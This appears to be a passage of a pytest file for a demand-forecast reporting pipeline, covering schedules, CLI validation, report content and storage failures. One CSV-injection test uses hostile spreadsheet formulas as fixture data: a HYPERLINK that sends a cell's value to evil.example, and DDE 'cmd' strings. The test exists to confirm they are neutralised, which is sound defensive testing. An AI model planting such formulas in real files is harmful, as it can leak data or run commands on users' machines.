    """The tick accepts " Weekly " (parse_cadence); the report's title read the raw value and said
    "Scheduled demand forecast" (found by a hunting helper)."""
    from forecast_pipeline.reports.render import Heading, render_html

    figures = compute_figures({1: payload(1, 5.0)}, top_n=1, as_of=AS_OF, missing=[])
    moment = dt.datetime(2025, 11, 10, 6, tzinfo=dt.UTC)
    html = render_html(figures, Heading("acme", " Weekly ", moment, "UTC"))
    assert "Weekly demand forecast" in html and "Scheduled demand forecast" not in html


def test_a_product_sold_in_thousandths_reads_as_what_it_sells_not_zero():
    """A product sold by the tonne at 0.004 a week: the report's figures and its text kept two
    decimals (0.0, "0.0 units") where the forecast document keeps 0.004."""
    doc = payload(1, 0.0)
    for week in doc["predictions"]:
        week.update(predicted_quantity=0.004, confidence_lower=0.001, confidence_upper=0.009)
    figures = compute_figures({1: doc}, top_n=1, as_of=AS_OF, missing=[])
    [top] = figures["top_products"]
    assert (top["total_predicted_quantity"], top["weeks"][0]["confidence_upper"]) == (0.048, 0.009)
    assert (figures["total_predicted_quantity"], figures["weekly"][0]["lower_sum"]) == (0.048, 0.001)
    shown = [quantity(v) for v in (0.048, 0.004, 0.5, 0.999, 3.25, 12.6, 0.0)]
    assert shown == ["0.048", "0.004", "0.5", "1", "3.2", "13", "0"]


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"REPORT_TOP_PRODUCTS": "ten"}, "REPORT_TOP_PRODUCTS='ten' is not a whole number"),
        ({"REPORT_TOP_PRODUCTS": "0"}, "REPORT_TOP_PRODUCTS=0 must be between 1 and 1000"),
        ({"REPORT_CACHE_TTL_SECONDS": "-5"}, "REPORT_CACHE_TTL_SECONDS=-5 must be between"),
        ({"REPORT_TICK_LIMIT": "1.5"}, "REPORT_TICK_LIMIT='1.5' is not a whole number"),
    ],
)
def test_bad_report_settings_name_the_variable(env, message):
    with pytest.raises(ConfigError, match="invalid report configuration") as info:
        load_report_settings(env)
    assert message in str(info.value)


def test_an_unusable_reports_dir_does_not_stop_the_settings_from_loading(tmp_path):
    """A reports volume problem fails report runs (recorded), never the code location."""
    a_file = tmp_path / "file"
    a_file.write_text("x")
    assert load_report_settings({"REPORTS_DIR": str(a_file)}).reports_dir == a_file
    assert load_report_settings({"REPORTS_DIR": str(tmp_path / "new")}).reports_dir == tmp_path / "new"


def test_the_report_job_and_sensors_are_in_the_code_location():
    from forecast_pipeline.definitions import defs

    merged = defs()
    assert merged.resolve_job_def("generate_report").name == "generate_report"
    assert merged.resolve_sensor_def("report_schedule_tick").minimum_interval_seconds == 60
    assert {"app_db", "redis_store"} <= set(merged.resolve_job_def("generate_report").required_resource_keys)


def test_cli_adds_plans_accounts_schedules_and_ticks(db, capsys):
    parser = argparse.ArgumentParser(prog="forecast-pipeline")
    reports_cli.add_report_commands(parser.add_subparsers(dest="command", required=True))
    settings = load_settings({"DATABASE_URL": REPORTS_DB_URL})

    def run(*argv: str, stdout_only: bool = False) -> tuple[int, str]:
        code = reports_cli.cmd_reports(settings, parser.parse_args(["reports", *argv]))
        captured = capsys.readouterr()
        return code, captured.out if stdout_only else captured.out + captured.err

    assert run("init")[0] == 0
    for _ in range(2):  # repeatable
        assert run("add-plan", "--name", "pro", "--monthly-limit", "30")[0] == 0
        assert run("add-account", "--name", "acme", "--plan", "pro", "--timezone", "Europe/Berlin")[0] == 0
        code, out = run(
            "add-schedule",
            "--account",
            "acme",
            "--name",
            "month-end",
            "--cadence",
            "monthly",
            "--day",
            "31",
            "--time",
            "07:30",
            "--timezone",
            "Europe/Berlin",
        )
        assert code == 0 and "monthly at 07:30 Europe/Berlin" in out
    with db.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(plans)).scalar_one() == 1
        (row,) = conn.execute(sa.select(report_schedules)).all()
    assert row.anchor_day == 31 and row.run_time == dt.time(7, 30) and row.next_run_at > now()
    with pytest.raises(SystemExit) as exited:
        run("add-schedule", "--account", "acme", "--name", "x", "--cadence", "daily", "--timezone", "Nowhere/X")
    assert exited.value.code == 2 and "'Nowhere/X' is not an IANA time zone" in capsys.readouterr().err
    code, out = run("list")
    assert code == 0 and "'month-end': monthly Europe/Berlin" in out and "active" in out
    with db.begin() as conn:
        conn.execute(report_schedules.update().values(next_run_at=now() - dt.timedelta(minutes=1)))
    code, out = run("tick", "--dry-run", "--json", stdout_only=True)  # the JSON; log lines go to stderr
    assert code == 0 and json.loads(out)["dry_run"] is True and len(json.loads(out)["recorded"]) == 1
    assert runs_of(db) == []
    code, out = run("tick", "--dry-run", stdout_only=True)  # its summary says what would be written
    assert code == 0 and "Dry run (nothing written): 1 slot(s) would be recorded" in out, out
    code, out = run("tick")
    assert code == 0 and "1 slot(s) recorded" in out and len(runs_of(db)) == 1


def test_a_time_zone_that_names_a_folder_is_malformed_not_a_crash(db):
    """``ZoneInfo("Europe")`` raises IsADirectoryError (an OSError): it used to abort every tick."""
    account = add_account(db)
    slot = now() - dt.timedelta(minutes=5)
    region = add_schedule(db, account, slot, "daily", "Europe", name="region")
    good = add_schedule(db, account, slot, "daily", "Europe/Berlin", name="good")
    result = tick(db)
    assert [m.schedule_id for m in result.malformed] == [region]
    assert [d.schedule_id for d in result.recorded] == [good]
    assert "'Europe' is not an IANA time zone" in schedule(db, region).last_error
    assert schedule(db, good).next_run_at > slot


# ---------------------------------------------------------------- CLI input validation

BAD_CLI_INPUT = [
    (["--top-products", "0"], "add-schedule", "--top-products: must be a whole number from 1 to 1000, got '0'"),
    (["--top-products", "5000"], "add-schedule", "--top-products: must be a whole number from 1 to 1000, got '5000'"),
    (["--start", "2025-02-30"], "add-schedule", "--start: '2025-02-30' is not a date such as 2025-11-10"),
    (["--day", "32"], "add-schedule", "--day: must be a whole number from 1 to 31, got '32'"),
    (["--time", "25:00"], "add-schedule", "--time: '25:00' is not a time such as 06:00"),
    (
        ["--time", "06:00+02:00"],
        "add-schedule",
        "--time: '06:00+02:00' has a UTC offset: give the local time, HH:MM, in the schedule's --timezone",
    ),
    (["--time", "06:00Z"], "add-schedule", "--time: '06:00Z' has a UTC offset: give the local time"),
    (["--timezone", "Mars/X"], "add-schedule", "--timezone: 'Mars/X' is not an IANA time zone name"),
    (["--product-ids", "1,-3"], "add-schedule", "--product-ids: '1,-3' is not a comma list of positive product ids"),
    (["--email", "nobody"], "add-schedule", "--email: 'nobody' is not an e-mail address"),
]
SCHEDULE_ARGS = ["--account", "acme", "--name", "daily", "--cadence", "daily"]


def _reports_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="forecast-pipeline")
    reports_cli.add_report_commands(parser.add_subparsers(dest="command", required=True))
    return parser


@pytest.mark.parametrize(("extra", "command", "message"), BAD_CLI_INPUT)
def test_bad_reports_cli_input_is_one_clear_line_and_exit_2(extra, command, message, capsys):
    with pytest.raises(SystemExit) as exited:
        _reports_parser().parse_args(["reports", command, *SCHEDULE_ARGS, *extra])
    assert exited.value.code == 2
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"forecast-pipeline reports {command}: {message}"), lines


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["add-plan", "--name", "pro", "--monthly-limit", "-1"], "--monthly-limit: must be 0 or more, or 'none'"),
        (["add-plan", "--name", "pro", "--monthly-limit", "lots"], "--monthly-limit: 'lots' is not a whole number"),
        (["add-plan", "--name", " ", "--monthly-limit", "3"], "--name: must not be blank"),
        (["add-account", "--name", "a", "--timezone", "Europe"], "--timezone: 'Europe' is not an IANA time zone"),
        (["add-account", "--name", "a", "--product-ids", "x"], "--product-ids: 'x' is not a comma list"),
        (["add-account", "--name", "a", "--email", "a@b.example,@x"], "--email: '@x' is not an e-mail address"),
    ],
)
def test_bad_plan_and_account_input_is_one_clear_line_and_exit_2(argv, message, capsys):
    with pytest.raises(SystemExit) as exited:
        _reports_parser().parse_args(["reports", *argv])
    assert exited.value.code == 2
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"forecast-pipeline reports {argv[0]}: {message}"), lines


def test_the_reports_command_refuses_a_bad_start_date_without_a_traceback(db, tmp_path):
    from forecast_pipeline_tests.conftest import BIN, command

    result = command(
        [str(BIN / "forecast-pipeline"), "reports", "add-schedule", *SCHEDULE_ARGS, "--start", "2025-13-01"],
        tmp_path,
        DATABASE_URL=REPORTS_DB_URL,
    )
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.strip() == (
        "forecast-pipeline reports add-schedule: --start: '2025-13-01' is not a date such as 2025-11-10"
    )


def test_references_the_database_cannot_satisfy_exit_2_with_one_line(db, capsys):
    settings = load_settings({"DATABASE_URL": REPORTS_DB_URL})
    parser = _reports_parser()

    def run(*argv: str) -> tuple[int, list[str]]:
        code = reports_cli.cmd_reports(settings, parser.parse_args(["reports", *argv]))
        return code, capsys.readouterr().err.strip().splitlines()

    assert run("add-account", "--name", "acme", "--plan", "gold") == (
        2,
        ["forecast-pipeline reports add-account: --plan: no plan named 'gold' (add it with `reports add-plan`)"],
    )
    assert run("add-schedule", *SCHEDULE_ARGS) == (
        2,
        [
            "forecast-pipeline reports add-schedule: "
            "--account: no account named 'acme' (add it with `reports add-account`)"
        ],
    )
    assert run("add-account", "--name", "acme", "--product-ids", "1,2")[0] == 0
    assert run("add-schedule", *SCHEDULE_ARGS, "--product-ids", "2,3") == (
        2,
        [
            "forecast-pipeline reports add-schedule: "
            "--product-ids: account 'acme' does not own product 3 (its products: 1, 2)"
        ],
    )
    with db.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(report_schedules)).scalar_one() == 0


def _cli(capsys):
    """``forecast-pipeline reports ...`` run in-process against the reports database: (exit code, out + err)."""
    settings = load_settings({"DATABASE_URL": REPORTS_DB_URL})
    parser = _reports_parser()

    def run(*argv: str) -> tuple[int, str]:
        code = reports_cli.cmd_reports(settings, parser.parse_args(["reports", *argv]))
        captured = capsys.readouterr()
        return code, captured.out + captured.err

    return run


def account_named(engine, name: str):
    with engine.connect() as conn:
        return conn.execute(
            sa.select(accounts.c.timezone, accounts.c.parameters, plans.c.name.label("plan"))
            .select_from(accounts.outerjoin(plans, plans.c.id == accounts.c.plan_id))
            .where(accounts.c.name == name)
        ).one()


def test_re_adding_an_account_changes_only_the_options_given(db, capsys):
    """A re-run to change the plan used to reset the time zone to UTC (moving the plan's month) and
    drop the owned products and the recipients: options left out now keep their stored values."""
    run = _cli(capsys)
    assert run("add-plan", "--name", "pro", "--monthly-limit", "30")[0] == 0
    assert run("add-plan", "--name", "basic", "--monthly-limit", "5")[0] == 0
    code, _ = run(
        "add-account", "--name", "acme", "--plan", "pro", "--timezone", "Europe/Berlin",
        "--product-ids", "1,2,3", "--email", "buyer@acme.example",
    )  # fmt: skip
    assert code == 0
    code, out = run("add-account", "--name", "acme", "--plan", "basic")
    assert code == 0 and "(Europe/Berlin, plan basic)" in out, out
    row = account_named(db, "acme")
    assert (row.plan, row.timezone) == ("basic", "Europe/Berlin")
    assert row.parameters == {"product_ids": [1, 2, 3], "email_to": ["buyer@acme.example"]}
    # each option given replaces its own value, and only that one
    assert run("add-account", "--name", "acme", "--email", "ops@acme.example")[0] == 0
    assert run("add-account", "--name", "acme", "--timezone", "America/New_York")[0] == 0
    row = account_named(db, "acme")
    assert (row.plan, row.timezone) == ("basic", "America/New_York")
    assert row.parameters == {"product_ids": [1, 2, 3], "email_to": ["ops@acme.example"]}
    # a new account gets the defaults
    code, out = run("add-account", "--name", "beta")
    assert code == 0 and "(UTC, plan none: unlimited)" in out, out
    row = account_named(db, "beta")
    assert (row.plan, row.timezone, row.parameters) == (None, "UTC", None)


def schedule_named(engine, name: str):
    with engine.connect() as conn:
        return conn.execute(sa.select(report_schedules).where(report_schedules.c.name == name)).one()


def test_re_adding_a_schedule_keeps_its_day_time_and_settings_unless_given(db, capsys):
    """A re-run without --start used to move a weekly schedule to today's weekday (and reset its
    time, time zone, products and recipients): options left out now keep the stored ones."""
    run = _cli(capsys)
    berlin = zoneinfo.ZoneInfo("Europe/Berlin")
    assert run("add-account", "--name", "acme", "--product-ids", "1,2,3")[0] == 0
    start = dt.datetime.now(berlin).date() + dt.timedelta(days=3)  # never today's weekday
    weekly = ["add-schedule", "--account", "acme", "--name", "weekly", "--cadence", "weekly"]
    code, _ = run(
        *weekly, "--start", start.isoformat(), "--time", "07:30", "--timezone", "Europe/Berlin",
        "--product-ids", "1,2", "--top-products", "5", "--email", "buyer@acme.example",
    )  # fmt: skip
    assert code == 0
    first = schedule_named(db, "weekly")
    assert first.next_run_at == dt.datetime.combine(start, dt.time(7, 30), tzinfo=berlin)

    assert run(*weekly, "--email", "ops@acme.example")[0] == 0  # only the recipients change
    row = schedule_named(db, "weekly")
    assert row.next_run_at == first.next_run_at, "the weekly schedule moved to another day"
    assert (row.timezone, row.run_time, row.anchor_day) == ("Europe/Berlin", dt.time(7, 30), None)
    assert row.parameters == {"product_ids": [1, 2], "top_products": 5, "email_to": ["ops@acme.example"]}

    assert run(*weekly, "--time", "08:15")[0] == 0  # a new time keeps the weekday
    row = schedule_named(db, "weekly")
    assert row.next_run_at == dt.datetime.combine(start, dt.time(8, 15), tzinfo=berlin)
    assert row.parameters["email_to"] == ["ops@acme.example"]

    assert run(*weekly, "--timezone", "America/New_York")[0] == 0  # a new zone keeps weekday and time
    row = schedule_named(db, "weekly")
    ny = zoneinfo.ZoneInfo("America/New_York")
    assert row.next_run_at == dt.datetime.combine(start, dt.time(8, 15), tzinfo=ny)

    monthly = ["add-schedule", "--account", "acme", "--name", "month-end", "--cadence", "monthly"]
    assert run(*monthly, "--day", "31", "--time", "07:00")[0] == 0
    before = schedule_named(db, "month-end")
    assert run(*monthly, "--top-products", "3")[0] == 0
    row = schedule_named(db, "month-end")
    assert (row.anchor_day, row.run_time, row.next_run_at) == (31, dt.time(7, 0), before.next_run_at)

    # a slot due now (the tick has not met it yet) stays due when only the recipients change
    due = now() - dt.timedelta(minutes=1)
    with db.begin() as conn:
        conn.execute(report_schedules.update().where(report_schedules.c.name == "month-end").values(next_run_at=due))
    assert run(*monthly, "--email", "cfo@acme.example")[0] == 0
    assert schedule_named(db, "month-end").next_run_at == due

    # a malformed schedule (deactivated by the tick) keeps a bad stored zone only if none is given
    with db.begin() as conn:
        conn.execute(
            report_schedules.update()
            .where(report_schedules.c.name == "weekly")
            .values(timezone="Nowhere/X", active=False, last_error="bad zone")
        )
    assert run(*weekly) == (
        2,
        "forecast-pipeline reports add-schedule: --timezone: the schedule's stored time zone 'Nowhere/X' is not "
        "an IANA time zone name (e.g. Europe/Berlin); give --timezone\n",
    )
    assert run(*weekly, "--timezone", "Europe/Berlin")[0] == 0
    row = schedule_named(db, "weekly")
    assert (row.active, row.last_error, row.run_time) == (True, None, dt.time(8, 15))
    assert row.next_run_at.astimezone(berlin).weekday() == start.weekday()

    # a new schedule still gets the defaults: today (first future slot), 06:00, UTC
    assert run("add-schedule", "--account", "acme", "--name", "fresh", "--cadence", "daily")[0] == 0
    row = schedule_named(db, "fresh")
    assert (row.timezone, row.run_time, row.parameters) == ("UTC", dt.time(6, 0), None)
    assert now() < row.next_run_at <= now() + dt.timedelta(days=1)


def test_re_adding_a_schedule_never_drops_a_slot_the_new_schedule_still_has(db, capsys):
    """Two ways a re-run lost a report (found by a hunting helper): the same command with --start
    moved a due slot (the tick had not met it yet) to the next one, and a monthly schedule moved to
    an earlier day of the month skipped the month whose report had not gone out."""
    from forecast_pipeline.reports.cadence import add_months

    run = _cli(capsys)
    assert run("add-account", "--name", "acme")[0] == 0
    due = (now() - dt.timedelta(minutes=5)).replace(second=0, microsecond=0)
    daily = ["add-schedule", "--account", "acme", "--name", "daily", "--cadence", "daily", "--timezone", "UTC"]
    daily += ["--start", (due.date() - dt.timedelta(days=3)).isoformat(), "--time", f"{due:%H:%M}"]
    assert run(*daily)[0] == 0
    with db.begin() as conn:
        conn.execute(report_schedules.update().where(report_schedules.c.name == "daily").values(next_run_at=due))
    assert run(*daily)[0] == 0  # provisioning re-run unchanged
    assert schedule_named(db, "daily").next_run_at == due, "the due slot was dropped"
    assert run(*daily[:-2], "--time", f"{due + dt.timedelta(minutes=1):%H:%M}")[0] == 0  # not on the new grid
    assert schedule_named(db, "daily").next_run_at > now()

    utc = zoneinfo.ZoneInfo("UTC")
    monthly = ["add-schedule", "--account", "acme", "--name", "monthly", "--cadence", "monthly"]
    assert run(*monthly, "--day", "31", "--timezone", "UTC", "--time", "06:00")[0] == 0
    today = now().date()
    # this month's report went out: the stored slot is next month's last day; moved to the 10th,
    # the next report is next month's 10th, not the month after's
    next_month_end = add_months(today, 1, 31)
    with db.begin() as conn:
        conn.execute(
            report_schedules.update()
            .where(report_schedules.c.name == "monthly")
            .values(next_run_at=dt.datetime.combine(next_month_end, dt.time(6), tzinfo=utc))
        )
    assert run(*monthly, "--day", "10")[0] == 0
    expected = dt.datetime.combine(add_months(today, 1, 10), dt.time(6), tzinfo=utc)
    assert schedule_named(db, "monthly").next_run_at == expected
    # this month's report has not gone out (due at its end) and the new day is still ahead
    month_end = add_months(today, 0, 31)
    if today.day + 1 < month_end.day:
        with db.begin() as conn:
            conn.execute(
                report_schedules.update()
                .where(report_schedules.c.name == "monthly")
                .values(next_run_at=dt.datetime.combine(month_end, dt.time(6), tzinfo=utc), anchor_day=31)
            )
        assert run(*monthly, "--day", str(today.day + 1))[0] == 0
        ahead = dt.datetime.combine(today + dt.timedelta(days=1), dt.time(6), tzinfo=utc)
        assert schedule_named(db, "monthly").next_run_at == ahead, "this month was skipped"


# ---------------------------------------------------------------- what the customer receives

AUCKLAND = zoneinfo.ZoneInfo("Pacific/Auckland")


def add_products(engine, names: dict[int, str]) -> None:
    with engine.begin() as conn:
        conn.execute(source_schema.products.insert(), [{"id": p, "name": n} for p, n in names.items()])


def add_weekly_orders(engine, product_id: int, quantity: float, weeks: int, as_of: str = AS_OF) -> None:
    """One order of ``quantity`` in each of the ``weeks`` weeks before the as-of date."""
    start = dt.date.fromisoformat(as_of)
    with engine.begin() as conn:
        if (
            conn.execute(sa.select(source_schema.customers.c.id).where(source_schema.customers.c.id == 1)).first()
            is None
        ):
            conn.execute(source_schema.customers.insert().values(id=1, name="c1"))
        first = (conn.execute(sa.select(sa.func.max(source_schema.orders.c.id))).scalar() or 0) + 1
        for w in range(weeks):
            order_id = first + w
            when = dt.datetime.combine(start - dt.timedelta(days=7 * w + 3), dt.time(9))
            conn.execute(source_schema.orders.insert().values(id=order_id, customer_id=1, created_at=when))
            conn.execute(
                source_schema.order_items.insert().values(order_id=order_id, product_id=product_id, quantity=quantity)
            )


def report_of(engine, schedule_id) -> tuple[str, list[dict]]:
    (run,) = runs_of(engine, schedule_id)
    generation = generation_of(engine, run.id)
    html = Path(generation.output_location).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(Path(generation.csv_location).read_text(encoding="utf-8"))))
    return html, rows


def test_the_report_reads_like_a_document_for_a_customer(db, pg, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0, 2: 50.0, 3: 30.0}, model_type="croston_sba", accuracy=0.0)
    add_products(pg, {1: "Espresso beans 1 kg", 2: "Oat milk <barista> & co"})  # 3 has no name
    add_weekly_orders(pg, 2, 40.0, weeks=8)
    account = add_account(db, name="Acme Cafés", timezone="Pacific/Auckland", parameters={"product_ids": [1, 2, 3]})
    slot = now() - dt.timedelta(minutes=1)
    schedule_id = add_schedule(db, account, slot, name="weekly-ops")
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert execute(request, db, instance, tmp_path).success
    html, rows = report_of(db, schedule_id)
    # product names, escaped; a product without a name is called by its number
    assert "Espresso beans 1 kg" in html and "Oat milk &lt;barista&gt; &amp; co" in html and "Product 3" in html
    assert "<barista>" not in html
    # no internal vocabulary, ids or machine timestamps
    lowered = html.lower()
    for internal in ("croston", "tsb", "accuracy", "model_type", "schedule_run", "(#", "weekly-ops"):
        assert internal not in lowered, internal
    assert not re.search(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}", html)
    # dates in the account's time zone, day month year
    local = slot.astimezone(AUCKLAND)
    assert f"{local.day} {local:%b %Y}, {local:%H:%M}" in html
    as_of = dt.date.fromisoformat(AS_OF)
    assert f"{as_of.day} {as_of:%b %Y}" in html
    # a chart per top product plus the total, each with history, forecast and its range
    assert html.count('class="chart product"') == 3 and html.count('class="chart total"') == 1
    assert html.count('class="history"') == 4 and html.count('class="band"') == 4
    # recent history comes from the order database, week by week
    history = [r for r in rows if r["kind"] == "history" and r["product_id"] == "2"]
    assert [float(r["quantity"]) for r in history][-8:] == [40.0] * 8
    assert {float(r["quantity"]) for r in history[:-8]} <= {0.0}
    assert "Expected demand, next 12 weeks" in html and f"{sum(50.0 + w for w in range(12)):,.0f}" in html
    assert "if every product" in html  # the total's range is described for what it is


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(db, pg, rclient, tmp_path):
    """OWASP CSV injection: a product (or account) name such as ``=HYPERLINK(...)`` must reach the
    spreadsheet as text, so it gets a leading ``'``; a negative number stays a number."""
    forecasts = {1: 10.0, 2: 20.0, 3: 30.0, 4: 40.0}
    cache_forecasts(rclient, forecasts)
    doc = payload(4, 40.0)
    doc["predictions"][0]["confidence_lower"] = -3.5  # a lower bound below zero: a number, not text
    forecast_cache.write_forecasts(
        rclient, "forecast", AS_OF, [payload(p, b) for p, b in forecasts.items() if p != 4] + [doc], 600, 600
    )
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
    at_sign = "@SUM(1+1)*cmd|' /C calc'!A0"
    add_products(pg, {1: hyperlink, 2: "+1 free sample", 3: "-5% pack", 4: at_sign})
    add_weekly_orders(pg, 1, 4.0, weeks=2)
    account = add_account(db, name="=cmd|' /C calc'!A0", parameters={"product_ids": [1, 2, 3, 4]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert execute(request, db, instance, tmp_path).success
    _, rows = report_of(db, schedule_id)
    names = {r["product_id"]: r["product_name"] for r in rows if r["kind"] == "product"}
    assert names == {"1": f"'{hyperlink}", "2": "'+1 free sample", "3": "'-5% pack", "4": f"'{at_sign}"}
    lower = [r["confidence_lower"] for r in rows if r["kind"] == "product" and r["product_id"] == "4"]
    assert lower[0] == "-3.5"  # unchanged: a spreadsheet reads it as the number -3.5
    for row in rows:  # no cell but a number starts like a formula
        for value in row.values():
            if value.startswith(FORMULA_STARTS):
                float(value)
    # tab and carriage return too (names read from the products table are stripped, others may not be)
    top = [{"product_id": 9, "name": name, "history": [-1.0], "weeks": []} for name in ("\tx", "\ry")]
    parsed = list(csv.DictReader(io.StringIO(render_csv({"as_of_date": AS_OF, "weekly": [], "top_products": top}))))
    assert [r["product_name"] for r in parsed] == ["'\tx", "'\ry"] and {r["quantity"] for r in parsed} == {"-1.0"}


def test_a_report_covers_only_what_the_account_owns_or_names(db, pg, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0, 2: 20.0, 3: 30.0, 4: 40.0})
    add_products(pg, {1: "Alpha", 2: "Bravo", 3: "Charlie", 4: "Delta"})
    slot = now() - dt.timedelta(minutes=1)
    owner_a = add_account(db, name="a", limit=3, parameters={"product_ids": [1, 2]})
    owner_b = add_account(db, name="b", limit=3, parameters={"product_ids": [3]})
    nothing = add_account(db, name="c", limit=3)
    a = add_schedule(db, owner_a, slot)
    b = add_schedule(db, owner_b, slot)
    narrowed = add_schedule(db, owner_a, slot, name="only-bravo", parameters={"product_ids": [2]})
    c = add_schedule(db, nothing, slot)
    with DagsterInstance.ephemeral() as instance:
        for request in evaluate_tick(instance, db).run_requests:
            execute(request, db, instance, tmp_path)
    for schedule_id, own, foreign in (
        (a, {"Alpha", "Bravo"}, {"Charlie", "Delta"}),
        (b, {"Charlie"}, {"Alpha", "Bravo", "Delta"}),
        (narrowed, {"Bravo"}, {"Alpha", "Charlie", "Delta"}),
    ):
        html, rows = report_of(db, schedule_id)
        assert all(name in html for name in own) and not any(name in html for name in foreign), schedule_id
        assert {r["product_id"] for r in rows if r["product_id"]} == {
            str(p) for p in (1, 2, 3, 4) if {1: "Alpha", 2: "Bravo", 3: "Charlie", 4: "Delta"}[p] in own
        }
    (run,) = runs_of(db, c)
    assert run.status == "failed" and "owns no products" in run.error
    assert generation_of(db, run.id).output_location is None
    assert not (tmp_path / f"account-{nothing}").exists()
    with db.connect() as conn:
        assert check_report_limit(conn, nothing).used == 0


def test_stale_forecasts_are_refused_with_a_reason_and_not_charged(db, rclient, tmp_path):
    weeks_old = (dt.datetime.now(UTC).date() - dt.timedelta(days=20)).isoformat()
    cache_forecasts(rclient, {1: 10.0}, as_of=weeks_old)
    account = add_account(db, limit=1, parameters={"product_ids": [1]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert not execute(request, db, instance, tmp_path).success
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and run.error.startswith("refused: the newest forecasts are 20 days old")
    assert "REPORT_MAX_FORECAST_AGE_DAYS=8" in run.error
    assert generation_of(db, run.id).status == "failed" and not any(tmp_path.rglob("*.*"))
    with db.connect() as conn:
        decision = check_report_limit(conn, account)
        assert decision.allowed and decision.used == 0  # a refused report is not charged
    cache_forecasts(rclient, {1: 10.0}, stamp="fresh")  # the forecasts run again: the slot can be re-executed
    with DagsterInstance.ephemeral() as instance:
        assert execute(run.id, db, instance, tmp_path).success
    with db.connect() as conn:
        assert check_report_limit(conn, account).used == 1


# ---------------------------------------------------------------- a full or read-only reports volume


@contextlib.contextmanager
def volume_full_after(size_bytes: int):
    """Files this process writes cannot grow past ``size_bytes`` (EFBIG, as on a full volume)."""
    previous_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size_bytes, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous_handler)


def quiet_logger() -> logging.Logger:
    logger = logging.getLogger("test_reports.quiet")
    logger.propagate = False
    return logger


def test_a_full_volume_fails_the_report_and_leaves_no_partial_or_temporary_file(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0, 2: 20.0})
    account = add_account(db, limit=1, parameters={"product_ids": [1, 2]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    (due,) = tick(db).recorded
    reports_dir = tmp_path / "reports"
    with volume_full_after(8192), pytest.raises(OSError, match="File too large"):  # CSV fits, the HTML does not
        produce_report(
            db, RedisStore(url=REPORTS_REDIS_URL), due.schedule_run_id, reports_dir=reports_dir, logger=quiet_logger()
        )
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and "File too large" in run.error
    assert [p for p in reports_dir.rglob("*") if not p.is_dir()] == []  # no report, no temporary file
    with db.connect() as conn:
        assert check_report_limit(conn, account).used == 0
    produce_report(db, RedisStore(url=REPORTS_REDIS_URL), due.schedule_run_id, reports_dir=reports_dir)
    assert sorted(p.suffix for p in reports_dir.rglob("*.*")) == [".csv", ".html"]  # once there is room


def test_a_reports_dir_that_cannot_be_created_fails_only_the_report(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, parameters={"product_ids": [1]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    (blocker := tmp_path / "a-file").write_text("x")
    with DagsterInstance.ephemeral() as instance:
        (request,) = evaluate_tick(instance, db).run_requests
        assert not execute(request, db, instance, blocker / "reports").success
    (run,) = runs_of(db, schedule_id)
    assert run.status == "failed" and "NotADirectoryError" in run.error
    assert generation_of(db, run.id).status == "failed" and generation_of(db, run.id).output_location is None


READ_ONLY_PROBE = """
import sys
from dagster import Definitions
import forecast_pipeline.definitions as code_location
loaded = code_location.defs()
Definitions.validate_loadable(loaded)
assert loaded.resolve_job_def("daily_forecast") is not None
print("code location loaded")
from forecast_pipeline.defs.reports.jobs import produce_report
from forecast_pipeline.connections import make_engine
from forecast_pipeline.resources import RedisStore
try:
    produce_report(make_engine(sys.argv[1]), RedisStore(url=sys.argv[2]), int(sys.argv[3]))
except PermissionError as exc:
    print("report failed:", exc)
"""


def _without_root_override() -> None:
    """Root ignores file modes; without CAP_DAC_OVERRIDE / CAP_DAC_READ_SEARCH it obeys them."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP: gone from the exec'd program
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def test_a_read_only_reports_dir_fails_the_report_runs_not_the_code_location(db, rclient, tmp_path):
    cache_forecasts(rclient, {1: 10.0})
    account = add_account(db, parameters={"product_ids": [1]})
    schedule_id = add_schedule(db, account, now() - dt.timedelta(minutes=1))
    (due,) = tick(db).recorded
    read_only = tmp_path / "volume"
    read_only.mkdir()
    read_only.chmod(0o555)
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("FORECAST_", "REPORT", "DATABASE_URL"))}
    environ["REPORTS_DIR"] = str(read_only / "reports")
    result = subprocess.run(
        [sys.executable, "-c", READ_ONLY_PROBE, REPORTS_DB_URL, REPORTS_REDIS_URL, str(due.schedule_run_id)],
        env=environ,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=_without_root_override if os.geteuid() == 0 else None,
    )
